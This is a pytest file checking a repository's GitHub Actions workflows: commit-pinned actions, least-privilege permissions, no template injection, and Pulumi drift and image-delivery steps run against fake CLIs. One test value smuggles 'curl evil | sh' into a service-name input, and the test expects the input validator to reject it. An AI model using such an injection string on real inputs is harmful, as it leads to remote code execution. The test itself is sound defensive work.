"""The workflows: pinned actions with real inputs, least privilege, no template injection, the
identity contract, and the drift and delivery steps' shell run against fake `pulumi` and `gh`.

zizmor and actionlint run in `.ci/run`; these tests check what they do not: that each pin is the
one recorded in .github/ACTION-PINS.md, that each `with:` names an input of the pinned
`action.yml` (tests/actions, copied at the tag), and what the scripts do with each verdict.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).parent.parent
WORKFLOWS = ROOT / ".github" / "workflows"
SAMPLES = Path(__file__).parent / "samples"
PIN = re.compile(r"^([\w.-]+/[\w.-]+)@([0-9a-f]{40})$")


def load(path: Path) -> dict[str, Any]:
    document: dict[Any, Any] = yaml.safe_load(path.read_text())
    if True in document:  # YAML 1.1 reads the key `on` as true
        document["on"] = document.pop(True)
    return document


def workflow(name: str) -> dict[str, Any]:
    return load(WORKFLOWS / name)


ALL = {path.name: load(path) for path in sorted(WORKFLOWS.glob("*.yml"))}
COMPOSITE = ROOT / ".github" / "actions" / "pulumi-setup" / "action.yml"


def steps() -> Iterator[tuple[str, dict[str, Any]]]:
    for name, document in ALL.items():
        for job in document["jobs"].values():
            for step in job.get("steps", []):
                yield name, step
    for step in load(COMPOSITE)["runs"]["steps"]:
        yield COMPOSITE.name, step


def pins() -> dict[str, tuple[str, str]]:
    """action -> (commit, tag), from the table in .github/ACTION-PINS.md."""
    table = re.findall(
        r"^\| `([^`]+)` \| `([^`]+)` \| `([0-9a-f]{40})` \|", (ROOT / ".github/ACTION-PINS.md").read_text(), re.M
    )
    return {action: (commit, tag) for action, tag, commit in table}


def uses_lines() -> Iterator[tuple[Path, str]]:
    for path in [*sorted(WORKFLOWS.glob("*.yml")), COMPOSITE]:
        for line in path.read_text().splitlines():
            if re.match(r"^\s*(- )?uses:", line):
                yield path, line.split("uses:", 1)[1].strip()


def test_every_third_party_action_is_pinned_by_commit_with_its_tag() -> None:
    table = pins()
    seen = set()
    for path, uses in uses_lines():
        if uses.startswith("./"):
            continue
        ref, _, comment = uses.partition(" # ")
        match = PIN.match(ref)
        assert match, f"{path.name}: {uses} is not pinned by commit"
        action, commit = match.groups()
        assert table.get(action) == (commit, comment), f"{path.name}: {uses} is not the pin in ACTION-PINS.md"
        seen.add(action)
    assert seen == set(table), "ACTION-PINS.md lists actions no workflow uses"


@cache
def action_inputs(action: str) -> dict[str, Any]:
    folder = Path(__file__).parent / "actions" / action
    (metadata,) = [p for p in folder.iterdir() if p.name in ("action.yml", "action.yaml")]
    inputs: dict[str, Any] = yaml.safe_load(metadata.read_text()).get("inputs") or {}
    return inputs


def test_with_names_only_inputs_of_the_pinned_action() -> None:
    for name, step in steps():
        uses = step.get("uses", "")
        if not uses or uses.startswith("./"):
            continue
        inputs = action_inputs(uses.split("@")[0])
        given = set(step.get("with", {}))
        assert given <= set(inputs), f"{name}: {uses} has no input {given - set(inputs)}"
        required = {key for key, spec in inputs.items() if (spec or {}).get("required") and "default" not in spec}
        assert required <= given, f"{name}: {uses} needs {required - given}"


def test_the_pulumi_cli_is_the_version_of_the_sdk() -> None:
    (sdk,) = re.findall(r"^pulumi==(\S+)$", (ROOT / "requirements.txt").read_text(), re.M)
    versions = [
        step["with"]["pulumi-version"] for _, step in steps() if step.get("uses", "").startswith("pulumi/actions@")
    ]
    assert versions and set(versions) == {sdk}


def test_no_expression_is_expanded_into_a_shell_script() -> None:
    for name, step in steps():
        assert "${{" not in step.get("run", ""), f"{name}: `{step.get('name', step['run'][:40])}` expands an expression"


def test_permissions_are_granted_per_job_and_tokens_per_step() -> None:
    for name, document in ALL.items():
        assert document["permissions"] == {}, name
        assert "env" not in document, name
        for job_name, job in document["jobs"].items():
            assert "permissions" in job, f"{name}: {job_name}"
            for key, value in job.get("env", {}).items():
                assert "secrets." not in str(value) and "token" not in str(value), f"{name}: {job_name}: {key}"
            for step in job.get("steps", []):
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False, f"{name}: {job_name}"


def test_identity_contract() -> None:
    up, drift, preview, delivery = (ALL[n] for n in ("up.yml", "drift.yml", "preview.yml", "service-delivery.yml"))
    assert {name: job["environment"] for name, job in up["jobs"].items()} == {"dev": "dev", "prod": "prod"}
    assert up["jobs"]["prod"]["needs"] == "dev"
    assert drift["jobs"]["drift"]["environment"] == "${{ needs.select.outputs.stack }}-drift"
    assert all("environment" not in job for job in preview["jobs"].values())
    assert all(job["environment"] == "${{ inputs.environment }}" for job in delivery["jobs"].values())
    text = (WORKFLOWS / "preview.yml").read_text()
    assert "{0}_PREVIEW_AZURE_CLIENT_ID" in text and "secrets.PULUMI_PREVIEW_ACCESS_TOKEN" in text
    assert "secrets.PULUMI_CONFIG_PASSPHRASE" not in text
    for name in ALL:
        assert "PULUMI_BACKEND_URL" not in (WORKFLOWS / name).read_text()


def test_drift_has_its_own_concurrency_group_and_waits_for_up() -> None:
    drift = ALL["drift.yml"]["jobs"]
    up_groups = {job["concurrency"]["group"] for job in ALL["up.yml"]["jobs"].values()}
    assert drift["drift"]["concurrency"]["group"] == "drift-${{ needs.select.outputs.stack }}"
    # A group keeps one pending run: sharing `up`'s group, a queued drift check would cancel a queued `up`.
    assert up_groups == {"pulumi-dev", "pulumi-prod"}
    assert drift["drift"]["if"] == "needs.select.outputs.busy == 'false'"
    assert drift["select"]["permissions"] == {"actions": "read"}


def step_named(document: dict[str, Any], job: str, name: str) -> dict[str, Any]:
    found: list[dict[str, Any]] = [s for s in document["jobs"][job]["steps"] if s.get("name") == name]
    (step,) = found
    return step


def fake(bin_dir: Path, name: str, body: str) -> None:
    path = bin_dir / name
    path.write_text("#!/usr/bin/env bash\n" + body)
    path.chmod(0o755)


def bash(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    base = {"PATH": f"{cwd / 'bin'}:{os.environ['PATH']}", "HOME": str(cwd)}
    return subprocess.run(
        ["bash", "-eo", "pipefail", "-c", script], cwd=cwd, env={**base, **env}, capture_output=True, text=True
    )


@pytest.fixture
def runner(tmp_path: Path) -> Path:
    (tmp_path / "bin").mkdir()
    (tmp_path / ".venv" / "bin").mkdir(parents=True)
    (tmp_path / ".venv" / "bin" / "python").symlink_to(sys.executable)
    (tmp_path / "out").write_text("")
    (tmp_path / "summary").write_text("")
    return tmp_path


@pytest.mark.parametrize(
    ("sample", "pulumi_code", "verdict"),
    [
        ("refresh-clean.json", 0, "0"),
        ("refresh-drift.json", 0, "1"),
        ("refresh-drift.json", 255, "2"),  # Pulumi failed: never a drift or no-drift verdict
        ("missing.json", 255, "2"),  # nothing printed (a sign-in failure)
    ],
)
def test_drift_report_step_verdicts(runner: Path, sample: str, pulumi_code: int, verdict: str) -> None:
    fake(runner / "bin", "pulumi", f'cat "{SAMPLES / sample}" 2>/dev/null; exit {pulumi_code}\n')
    script = step_named(ALL["drift.yml"], "drift", "Preview-only refresh and drift report")["run"]
    env = {"STACK": "prod", "PULUMI_STACK": "acme/slipway/prod", "GITHUB_OUTPUT": str(runner / "out"),
           "GITHUB_STEP_SUMMARY": str(runner / "summary"), "PYTHONPATH": str(ROOT)}  # fmt: skip
    result = bash(script, runner, env)
    assert result.returncode == 0, result.stderr
    assert (runner / "out").read_text() == f"verdict={verdict}\n"
    assert (runner / "summary").read_text() == (runner / "report.md").read_text()


def test_drift_report_step_refuses_a_stack_of_another_environment(runner: Path) -> None:
    script = step_named(ALL["drift.yml"], "drift", "Preview-only refresh and drift report")["run"]
    result = bash(script, runner, {"STACK": "prod", "PULUMI_STACK": "acme/slipway/dev", "GITHUB_OUTPUT": "out"})
    assert result.returncode == 1 and "does not name the prod stack" in result.stdout


@pytest.mark.parametrize(
    ("verdict", "open_issues", "calls", "code"),
    [
        ("0", "drift", ["issue close 7 --comment"], 0),
        ("1", "", ["label create drift", "issue create --title Drift in stack prod --label drift"], 0),
        ("1", "drift", ["issue edit 7 --body-file body.md"], 0),
        # A failed check: its own labelled issue and a failed run; the drift issue stays open.
        (
            "2",
            "drift",
            ["label create drift-check-failed", "issue create --title Drift check failed for stack prod"],
            1,
        ),
    ],
)
def test_drift_issue_step(runner: Path, verdict: str, open_issues: str, calls: list[str], code: int) -> None:
    fake(
        runner / "bin",
        "gh",
        'echo "$*" >> gh.log\n'
        'if [ "$1 $2" = "issue list" ]; then for l in $OPEN; do [ "$6" = "$l" ] && echo 7; done; fi\n'
        "exit 0\n",
    )
    (runner / "report.md").write_text("report\n")
    script = step_named(ALL["drift.yml"], "drift", "Open, update or close the stack's issues")["run"]
    result = bash(script, runner, {"STACK": "prod", "VERDICT": verdict, "OPEN": open_issues, "RUN_URL": "https://run"})
    assert result.returncode == code
    log = (runner / "gh.log").read_text()
    changes = [line for line in log.splitlines() if not line.startswith(("issue list", "label list"))]
    assert all(any(line.startswith(call) for line in changes) for call in calls), changes
    if verdict == "2":
        assert "issue close" not in log
    assert (runner / "body.md").read_text().startswith("report\n")


@pytest.mark.parametrize(
    ("service", "variable", "context", "ok"),
    [
        ("payments-api", "", ".", True),
        ("", "payments-api", "services/api", True),
        ("payments-api", "other", ".", False),
        ("../../etc", "", ".", False),
        ('x"; curl evil | sh; "', "", ".", False),
        ("payments-api", "", "../outside", False),
        ("payments-api", "", "/etc", False),
    ],
)
def test_service_inputs_are_validated(runner: Path, service: str, variable: str, context: str, ok: bool) -> None:
    script = step_named(ALL["service-delivery.yml"], "build", "Check the inputs")["run"]
    env = {"INPUT_SERVICE": service, "SERVICE_NAME": variable, "ENVIRONMENT": "prod", "CONTEXT": context,
           "DOCKERFILE": "Dockerfile", "ACR_LOGIN_SERVER": "slipwayprod.azurecr.io",
           "GHCR_IMAGE_PREFIX": "ghcr.io/acme-platform", "GITHUB_OUTPUT": str(runner / "out")}  # fmt: skip
    result = bash(script, runner, env)
    assert (result.returncode == 0) == ok, result.stdout
    if ok:
        assert "acr-image=slipwayprod.azurecr.io/payments-api\n" in (runner / "out").read_text()


def test_delivery_builds_once_scans_and_promotes_that_digest() -> None:
    build = ALL["service-delivery.yml"]["jobs"]["build"]
    names = [step.get("name", step.get("uses", "")) for step in build["steps"]]
    builds = [s for s in build["steps"] if s.get("uses", "").startswith("docker/build-push-action@")]
    assert len(builds) == 1
    (image,) = builds
    assert "push-by-digest=true" in image["with"]["outputs"] and "tags" not in image["with"]
    assert image["with"]["no-cache"] == "${{ inputs.release }}"
    assert image["with"]["cache-from"] == "${{ !inputs.release && 'type=gha' || '' }}"
    scan = step_named(ALL["service-delivery.yml"], "build", "Scan the pushed digest")
    assert scan["with"]["image-ref"].endswith("@${{ steps.build.outputs.digest }}")
    assert scan["with"]["exit-code"] == "1" and scan["with"]["severity"].startswith("${{ inputs.fail-on-high")
    assert "'CRITICAL'" in scan["with"]["severity"]
    assert names.index("Scan the pushed digest") < names.index("Tag the scanned digest in both registries")
    assert build["outputs"]["digest"] == "${{ steps.build.outputs.digest }}"
    promote = ALL["service-delivery.yml"]["jobs"]["promote"]
    assert promote["env"]["DIGEST"] == "${{ needs.build.outputs.digest }}"


def test_delivery_runs_where_slipway_tells_each_service_repository() -> None:
    """Both jobs push to or tag in the registry: they run on the runners the caller passes (#30.3)."""
    delivery: dict[Any, Any] = ALL["service-delivery.yml"]
    on = delivery["on"] if "on" in delivery else delivery[True]  # YAML 1.1 reads a bare `on` as True
    runs_on = on["workflow_call"]["inputs"]["runs-on"]
    assert runs_on["default"] == '"ubuntu-latest"'
    assert all(job["runs-on"] == "${{ fromJSON(inputs.runs-on) }}" for job in delivery["jobs"].values())
    assert "runs-on: ${{ vars.DELIVERY_RUNS_ON }}" in (WORKFLOWS / "service-delivery.yml").read_text()
